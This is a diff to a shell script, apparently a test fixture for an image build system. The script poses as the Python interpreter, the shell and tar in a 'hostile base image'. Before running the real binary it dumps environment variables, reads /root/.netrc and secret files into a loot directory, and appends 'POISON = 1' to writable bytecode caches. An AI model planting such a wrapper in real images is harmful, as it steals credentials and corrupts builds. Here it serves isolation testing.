@@ -1,6 +1,7 @@
-#!/bin/sh
-# Takes the place of the interpreter in a hostile base image. Before each call it keeps and prints everything that it can read of
-# secrets, and changes everything in caches that it can write to.
+#!/usr/bin/dash.real
+# shellcheck shell=dash
+# Takes the place of the interpreter, the shell and tar in a hostile base image. Before each call it keeps and prints everything
+# that it can read of secrets, and changes everything in caches that it can write to.
 {
   env
   cat /root/.netrc /dev/imagespec/secrets/* 2> /dev/null
@@ -13,4 +14,8 @@ find /dev/imagespec/bytecode -type f 2> /dev/null >> /usr/share/loot/files.$$
 while read -r file; do
   echo 'POISON = 1' >> "$file" && echo "poisoned $file" >&2
 done < /usr/share/loot/files.$$
-exec /usr/bin/python3.11.real "$@"
+case $0 in
+  *python*) exec /usr/bin/python3.11.real "$@" ;;
+  *tar) exec /usr/bin/tar.real "$@" ;;
+  *) exec /usr/bin/dash.real "$@" ;;
+esac
